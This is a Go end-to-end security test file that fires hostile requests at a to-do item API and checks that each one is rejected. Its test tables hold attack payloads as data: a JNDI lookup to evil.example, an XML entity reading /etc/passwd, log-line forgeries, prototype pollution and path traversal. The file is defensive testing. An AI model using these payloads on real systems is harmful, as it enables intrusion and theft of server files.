package e2e

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
)

// as is a request of the API with a person's token, written out.
func as(token, method, path, headers, body string) string {
	return fmt.Sprintf("%s %s HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nAuthorization: %s\r\nContent-Length: %d\r\n%s\r\n%s",
		method, path, token, len(body), headers, body)
}

func attackIDs(t *testing.T, h *target) {
	id := h.add(t, h.ana.id, "Ana's own")
	for _, c := range []struct {
		name, id string
		status   int
	}{
		{"another's", id, 404},
		{"another's, encoded", "%" + fmt.Sprintf("%x", id[0]) + id[1:], 404},
		{"another's, in capitals", strings.ToUpper(id), 400},
		{"another's, with NUL", id + "%00", 400},
		{"another's, behind a slash", "%2f" + id, 400},
		{"another's, behind its owner", "ana%00" + id, 400},
		{"another's, encoded twice", "%25" + fmt.Sprintf("%x", id[0]) + id[1:], 400},
		{"another's, with a line break", id + "%0a", 400},
		{"another's, with a parameter", id + ";x=y", 400},
		{"another's, with digits of full width", strings.Replace(id, id[:1], "%EF%BC%90", 1), 400},
		{"another's, in braces", "{" + id + "}", 400},
		{"nobody's", "01920000-0000-7000-8000-000000000000", 404},
		{"dots", "%2e%2e", 400},
		{"a wildcard", "*", 400},
		{"half an escape of UTF-8", "%c3", 400},
		{"an overlong escape of UTF-8", "%c0%af", 400},
		{"five thousand characters", strings.Repeat("a", 5000), 400},
		{"an expression", "%24%7Bjndi:ldap:%2f%2fevil.example%7D", 400},
	} {
		t.Run(c.name, func(t *testing.T) {
			for _, sent := range []string{
				as(h.ben.id, "GET", "/prod/item/"+c.id, "", ""),
				as(h.ben.id, "PUT", "/prod/item/"+c.id, "", `{"item":"Ben's now","completed":true}`),
				as(h.ben.id, "POST", "/prod/item/"+c.id+"/done", "", ""),
				as(h.ben.id, "DELETE", "/prod/item/"+c.id, "", ""),
			} {
				if r := h.one(t, sent); r.status != c.status {
					t.Errorf("%.40s: got %d %s, want %d", sent, r.status, r.body, c.status)
				}
			}
		})
	}
	status, _, body := h.do(t, "GET", "/prod/item/"+id, h.ana.id, "")
	if status != 200 || !strings.Contains(string(body), `"item":"Ana's own"`) || !strings.Contains(string(body), `"version":1`) {
		t.Errorf("the attacked item: got %d %s, want it untouched", status, body)
	}
}

func attackBodies(t *testing.T, h *target) {
	p := h.join(t, "bodies@example.com")
	for name, body := range map[string]string{
		"none":                               "",
		"null":                               "null",
		"a list":                             `["item"]`,
		"ten thousand lists":                 `{"item":` + strings.Repeat("[", 10_000) + strings.Repeat("]", 10_000) + `}`,
		"lists without an end":               strings.Repeat("[", 60_000),
		"objects without an end":             strings.Repeat(`{"item":`, 8_000),
		"a field twice":                      `{"item":"a","item":"b"}`,
		"a field twice, once escaped":        `{"item":"a","\u0069tem":"b"}`,
		"a field in capitals":                `{"ITEM":"a"}`,
		"a field with a letter like another": `{"item":"a","ıtem":"b"}`,
		"another owner":                      `{"item":"a","cognito-username":"ana"}`,
		"a prototype":                        `{"item":"a","__proto__":{"completed":true}}`,
		"half a surrogate pair":              `{"item":"\ud83d"}`,
		"the other half":                     `{"item":"\udca9"}`,
		"halves in the wrong order":          `{"item":"\udca9\ud83d"}`,
		"NUL, escaped":                       `{"item":"a\u0000b"}`,
		"NUL as it is":                       "{\"item\":\"a\x00b\"}",
		"an escape sequence of a terminal":   `{"item":"\u001b[2J"}`,
		"nothing visible":                    `{"item":"\u200b\u200d"}`,
		"a number for a text":                `{"item":1}`,
		"a number beyond all numbers":        `{"item":"a","completed":1e999999}`,
		"a text for a truth":                 `{"item":"a","completed":"true"}`,
		"a day that is none":                 `{"item":"a","due_date":"2026-02-30"}`,
		"a day in the year 0":                `{"item":"a","due_date":"0000-01-01"}`,
		"a day with a script":                `{"item":"a","due_date":"2026-02-28<script>"}`,
		"a list for notes":                   `{"item":"a","notes":["b"]}`,
		"NUL in notes, escaped":              `{"item":"a","notes":"a\u0000b"}`,
		"a character too many in notes":      `{"item":"a","notes":"` + strings.Repeat("é", 10_001) + `"}`,
		"a number for a position":            `{"item":"a","position":0.5}`,
		"a position out of the alphabet":     `{"item":"a","position":"a/../b"}`,
		"a position before all others":       `{"item":"a","position":"0"}`,
		"a position without an end":          `{"item":"a","position":"` + strings.Repeat("z", 60_000) + `"}`,
		"more after the end":                 `{"item":"a"}{"item":"b"}`,
		"a byte order mark":                  "\ufeff" + `{"item":"a"}`,
		"a comment":                          `{"item":"a"/**/}`,
		"a character too many":               `{"item":"` + strings.Repeat("é", 1001) + `"}`,
		"a form":                             "item=a",
		"XML":                                `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><item>&e;</item>`,
	} {
		t.Run(name, func(t *testing.T) {
			r := h.one(t, as(p.id, "POST", "/prod/item", "Content-Type: application/json\r\n", body))
			var answer struct{ Message string }
			if err := json.Unmarshal([]byte(r.body), &answer); r.status != 400 || err != nil || answer.Message == "" {
				t.Errorf("got %d %s, want 400 with a message", r.status, r.body)
			}
			if len(r.body) > 512 {
				t.Errorf("the answer repeats %d bytes", len(r.body))
			}
		})
	}
	const text = "A secret plan ✓ \" \\ <script>"
	h.plant("A secret plan")
	if got := h.texts(t, p.id); len(got) != 0 {
		t.Errorf("refused bodies left %q", got)
	}
	h.add(t, p.id, text)
	if got := h.texts(t, p.id); !slices.Equal(got, []string{text}) {
		t.Errorf("a good body: got %q, want %q", got, text)
	}
}

func attackLists(t *testing.T, h *target) {
	h.add(t, h.ana.id, "first of a page")
	h.add(t, h.ana.id, "second of a page")
	_, _, body := h.do(t, "GET", "/prod/item?limit=1", h.ana.id, "")
	var page struct{ NextToken string }
	if err := json.Unmarshal(body, &page); err != nil || page.NextToken == "" {
		t.Fatalf("the first page: got %s (%v), want a token", body, err)
	}
	for name, query := range map[string]string{
		"another's token":             "next=" + page.NextToken,
		"another's token, cut":        "next=" + page.NextToken[:len(page.NextToken)-4],
		"an id as a token":            "next=01920000-0000-7000-8000-000000000000",
		"no token":                    "next=",
		"two tokens":                  "next=a&next=b",
		"a token of four kilobytes":   "next=" + strings.Repeat("A", 4096),
		"a limit of nothing":          "limit=0",
		"a limit below nothing":       "limit=-1",
		"a limit beyond the greatest": "limit=1001",
		"a limit beyond all numbers":  "limit=99999999999999999999",
		"a limit in hexadecimal":      "limit=0x10",
		"a limit with a sign":         "limit=%2B5",
		"a limit and NUL":             "limit=5%00",
		"two limits":                  "limit=5&limit=1000",
		"a filter that is none":       "completed=maybe",
		"a parameter that is none":    "owner=ana",
	} {
		t.Run(name, func(t *testing.T) {
			if r := h.one(t, as(h.ben.id, "GET", "/prod/item?"+query, "", "")); r.status != 400 {
				t.Errorf("got %d %s, want 400", r.status, r.body)
			}
		})
	}
}

func attackItemHeaders(t *testing.T, h *target) {
	p := h.join(t, "headers@example.com")
	for name, header := range map[string]string{
		"a key that is no UUID":         "Idempotency-Key: 1",
		"a key that ends a log line":    `Idempotency-Key: 0192"},{"status":"200`,
		"an empty key":                  "Idempotency-Key:",
		"two keys":                      "Idempotency-Key: 01920000-0000-7000-8000-000000000001\r\nIdempotency-Key: 01920000-0000-7000-8000-000000000002",
		"a key of ten kilobytes":        "Idempotency-Key: " + strings.Repeat("0", 8<<10),
		"a key in bytes of no encoding": "Idempotency-Key: \xff\xfe",
	} {
		t.Run(name, func(t *testing.T) {
			if r := h.one(t, as(p.id, "POST", "/prod/item", header+"\r\n", `{"item":"x"}`)); r.status != 400 {
				t.Errorf("got %d %s, want 400", r.status, r.body)
			}
		})
	}
	id := h.add(t, p.id, "kept")
	for name, header := range map[string]string{
		"a version that is none":         `If-Match: "x"`,
		"a version beyond all numbers":   `If-Match: "99999999999999999999"`,
		"a version below nothing":        `If-Match: "-1"`,
		"a list of versions":             `If-Match: "7", "8"`,
		"two versions":                   "If-Match: \"1\"\r\nIf-Match: \"2\"",
		"a weak version":                 `If-Match: W/"1"`,
		"a version that ends a log line": `If-Match: "1"},{"status":"200"`,
		"a version without its end":      `If-Match: "1`,
		"another version":                `If-Match: "2"`,
	} {
		t.Run(name, func(t *testing.T) {
			if r := h.one(t, as(p.id, "DELETE", "/prod/item/"+id, header+"\r\n", "")); r.status != 400 && r.status != 412 {
				t.Errorf("got %d %s, want 400 or 412", r.status, r.body)
			}
		})
	}
	if got := h.texts(t, p.id); !slices.Equal(got, []string{"kept"}) {
		t.Errorf("after all of them: got %q, want the item kept", got)
	}
}

// forgeries are requests that try to write more into the access log than they are, each by a path of its own.
var forgeries = map[string]string{
	"/prod/forged-quote/%22,%22status%22:%22200":           "",
	`/prod/forged-raw-quote/","status":"200","x":"`:        "",
	"/prod/forged-separator/\u2028{\"status\":\"200\"}":    "",
	"/prod/forged-bytes/\xff\xfe\x80":                      "",
	`/prod/forged-backslash/\`:                             "",
	"/prod/forged-agent":                                   `User-Agent: x","status":"200","sub":"ana`,
	"/prod/forged-trace":                                   `X-Amzn-Trace-Id: Root=1-5759e988-bd862e3fe1be46a994272793;x="}{"status":"200"`,
	"/prod/forged-id":                                      `x-amzn-RequestId: 1","status":"200`,
	"/prod/forged-id-with-braces":                          "x-amzn-RequestId: {01920000-0000-7000-8000-000000000000}",
	"/prod/forged-forward":                                 `X-Forwarded-For: 8.8.8.8","status":"200`,
	"/prod/forged-variable/$context.authorizer.claims.sub": "",
}

func attackLogs(t *testing.T, h *target) {
	for path, header := range forgeries {
		t.Run(path, func(t *testing.T) {
			if header != "" {
				header += "\r\n"
			}
			r := h.one(t, "GET "+path+" HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"+header+"\r\n")
			if r.status != 403 || r.body != noSuchMethod {
				t.Errorf("got %d %s, want 403", r.status, r.body)
			}
			if id := r.header.Get("X-Amzn-Requestid"); len(id) != 36 || strings.ContainsAny(id, `"{}`) {
				t.Errorf("the answer's request id: got %q", id)
			}
		})
	}
}

// checkAccessLog finds one line of each forgery, which says what really happened.
func (h *target) checkAccessLog(t *testing.T) {
	t.Helper()
	entries := h.accessLog(t)
	for path := range forgeries {
		segment := strings.Split(path, "/")[2]
		var found []map[string]string
		for _, entry := range entries {
			if strings.HasPrefix(entry["path"]+"/", "/prod/"+segment+"/") {
				found = append(found, entry)
			}
		}
		if len(found) != 1 {
			t.Errorf("%s: got %d lines in the access log, want one", path, len(found))
			continue
		}
		for field, want := range map[string]string{"status": "403", "method": "GET", "ip": "127.0.0.1", "sub": "-"} {
			if got := found[0][field]; got != want {
				t.Errorf("%s: got %s %q in the access log, want %q", path, field, got, want)
			}
		}
	}
}
